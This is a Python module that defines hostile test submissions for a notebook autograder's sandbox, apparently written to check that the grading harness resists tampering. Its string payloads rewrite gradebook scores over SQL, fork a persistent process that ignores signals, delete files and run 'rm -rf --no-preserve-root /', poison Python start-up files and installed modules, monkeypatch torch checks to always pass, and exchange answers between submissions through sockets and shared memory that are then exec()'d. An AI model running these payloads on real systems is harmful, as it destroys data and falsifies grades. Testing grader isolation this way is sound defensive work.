"""Changing what is not theirs: the gradebook, files of the next submission, siblings. Each has right answers and earns them."""

from pathlib import Path

import nbformat

from .attack import EARNS_ALL, NOTHING, RIGHT, Attack, Kit, entry, files, solved

__all__ = ["ATTACKS"]

FINE = r"All of it holds"

SQL = """\
import sqlite3
def cheat():
    for path in (PLACES["gradebook"], "/proc/1/root" + PLACES["gradebook"], "gradebook.db", "../gradebook.db", "../../gradebook.db",
                 "../../../gradebook.db"):
        try:
            with sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=1) as gradebook:
                gradebook.execute("UPDATE grade SET auto_score = 4, manual_score = 4, needs_manual_grade = 0")
                print("FOUND the gradebook")
        except Exception as error:
            print(type(error).__name__)
"""

# A process of its own that ignores every signal and tries until the test is over.
WAITS = SQL + """\
import ctypes, os, signal, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        ctypes.CDLL(None).prctl(15, b"elbothreat", 0, 0, 0)
        for number in range(1, 65):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError, RuntimeError):
                pass
        for _ in range(600):
            cheat()
            time.sleep(1)
    os._exit(0)
"""

DELETES = """\
import os, shutil
for key in ("gradebook", "course", "submitted", "home", "outside", "tmp", "solutions", "repository", "records", "graded"):
    path = PLACES[key]
    for action in (os.remove, shutil.rmtree, lambda p: os.truncate(p, 0), lambda p: os.rename(p, p + ".gone"), lambda p: os.chmod(p, 0)):
        try:
            action(path)
            print("FOUND and changed", path)
        except Exception as error:
            print(key, type(error).__name__)
os.system("timeout -k 1 1 rm -rf --no-preserve-root / 2>/dev/null")"""

POISON = "'import torch, builtins; torch.allclose = lambda *a, **k: True; torch.left_by_threat = builtins.left_by_threat = True'"

START_UP = f"""\
import glob, os, site, sys, sysconfig
poison = {POISON}
folders = [site.getusersitepackages(), *site.getsitepackages(), sysconfig.get_path("purelib"), os.path.expanduser("~"), PLACES["home"],
           os.path.expanduser("~/.ipython/profile_default/startup"), PLACES["home"] + "/.ipython/profile_default/startup",
           os.path.expanduser("~/.config/matplotlib"), "/etc", "/tmp", "/dev/shm", "/var/tmp", PLACES["course"], PLACES["repository"], *sys.path]
for folder in folders:
    for name in ("usercustomize.py", "sitecustomize.py", "threat.pth", "00-threat.py", "seaborn.py", "matplotlibrc", "torch.py", "conftest.py"):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(os.path.join(folder or ".", name), "w") as file:
                file.write(poison)
            if folder and not folder.startswith(("/tmp", "/dev/shm", "/var/tmp", os.path.expanduser("~"), os.getcwd())):
                print("wrote", folder)
        except Exception:
            pass"""

IN_PLACE = f"""\
import os, sys, torch.distributions
poison = {POISON}
for module in list(sys.modules.values()):
    path = getattr(module, "__file__", None) or ""
    if path.endswith(".py") and ("autograder" in path or "elbolab" in path or "torch/distributions" in path):
        for target in (path, getattr(module, "__cached__", None)):
            try:
                os.chmod(target, 0o777)
                with open(target, "a") as file:
                    file.write(poison)
                print("FOUND writable", target)
            except Exception:
                pass"""

# Left in the memory of whoever comes next, were it the same process.
IN_MEMORY = """\
import builtins, os, sys, torch.distributions
torch.left_by_threat = builtins.left_by_threat = sys.left_by_threat = True
os.environ["LEFT_BY_THREAT"] = "1"
torch.distributions.Normal.log_prob = torch.distributions.Normal.rsample = lambda self, *a: torch.zeros(1)
torch.nn.functional.softplus = torch.nn.functional.logsigmoid = torch.Tensor.logsumexp = lambda *a, **k: torch.zeros(1)
torch.set_default_dtype(torch.float16)
os.umask(0o777)
os.nice(10)
sys.path.insert(0, "/tmp")
sys.meta_path.clear()"""

# Several ways of talking to another submission. The receivers take whatever comes as the source of their answer.
TOPICS = """\
import contextlib, ctypes, os, socket, time
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
paths = [os.path.join(folder, "elbothreat_channel") for folder in
         ("/tmp", "/dev/shm", "/var/tmp", "/run", "/dev/mqueue", os.path.expanduser("~"), "..", "../..", PLACES["tmp_folder"], PLACES["outside"])]
KEY, NAME, PORT = 0xE1B0, "elbothreat_channel", 47113
"""

SENDS = TOPICS + f"""\
message = {RIGHT["gaussian_kl"]!r}.encode()
for path in paths:
    with contextlib.suppress(OSError), open(path, "wb") as file:
        file.write(message)
segment = libc.shmget(KEY, 4096, 0o1666)
if segment >= 0:
    place = libc.shmat(segment, None, 0)
    ctypes.memmove(place, message, len(message))
from multiprocessing import resource_tracker, shared_memory
try:
    shared = shared_memory.SharedMemory(NAME, create=True, size=4096)
    shared.buf[:len(message)] = message
    resource_tracker.unregister(shared._name, "shared_memory")
except Exception as error:
    print(type(error).__name__)
listeners = []
for family, address in ((socket.AF_UNIX, "\\0" + NAME), (socket.AF_INET, ("127.0.0.1", PORT))):
    try:
        listener = socket.socket(family)
        listener.bind(address)
        listener.listen(8)
        listener.settimeout(0.2)
        listeners.append(listener)
    except OSError as error:
        print(type(error).__name__)
if os.fork() == 0:
    libc.prctl(15, b"elbothreat", 0, 0, 0)
    os.setsid()
    until = time.time() + 60
    while time.time() < until:
        for listener in listeners:
            with contextlib.suppress(OSError):
                listener.accept()[0].sendall(message)
    os._exit(0)
time.sleep(2)
"""

RECEIVES = TOPICS + """\
got, until = [], time.time() + 2.5
while time.time() < until and not got:
    for path in paths:
        with contextlib.suppress(OSError), open(path, "rb") as file:
            got.append(file.read())
    segment = libc.shmget(KEY, 4096, 0o666)
    if segment >= 0:
        got.append(ctypes.string_at(libc.shmat(segment, None, 0)))
    with contextlib.suppress(Exception):
        from multiprocessing import shared_memory
        got.append(bytes(shared_memory.SharedMemory(NAME).buf).rstrip(bytes(1)))
    for family, address in ((socket.AF_UNIX, "\\0" + NAME), (socket.AF_INET, ("127.0.0.1", PORT))):
        with contextlib.suppress(OSError), socket.socket(family) as connection:
            connection.settimeout(0.3)
            connection.connect(address)
            got.append(connection.recv(4096))
    time.sleep(0.1)
for source in got:
    print("FOUND a message")
    exec(source.decode())"""


def writes(name: str, clause: str, code: str) -> Attack:
    return solved(name, clause, EARNS_ALL, FINE, bernoulli=f"{code}\n{RIGHT['bernoulli']}")


def ships_modules(kit: Kit, folder: Path) -> None:
    nbformat.write(kit.solved(), folder / "exercises.ipynb")
    for name in ("seaborn.py", "torch.py", "usercustomize.py", "sitecustomize.py", "IPython.py", "numpy.py", "autograder/__init__.py",
                 "autograder/border.py", "elbolab/__init__.py", "json.py", "threat.pth", ".ipython/profile_default/startup/00.py"):
        path = folder / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text("print('FOUND shipped module')\nimport builtins\nbuiltins.left_by_threat = True\n")


ATTACKS = (
    writes("gradebook_by_sql", "gradebook", SQL + "cheat()"),
    writes("gradebook_later", "gradebook", WAITS),
    writes("deletes_everything", "gradebook", DELETES),
    writes("start_up_files", "start-up", START_UP),
    writes("modules_on_disk", "start-up", IN_PLACE),
    writes("modules_in_memory", "start-up", IN_MEMORY),
    files("ships_modules", "start-up", EARNS_ALL, FINE, ships_modules),
    solved("channel_sender", "siblings", EARNS_ALL, FINE, student="channel_1", gaussian=SENDS + RIGHT["gaussian"]),
    entry("channel_receiver", "siblings", NOTHING, r"still to be done|There is no `", student="channel_2", gaussian_kl=RECEIVES),
    entry("channel_receiver_too", "siblings", NOTHING, r"still to be done|There is no `", student="channel_3", gaussian_kl=RECEIVES),
)
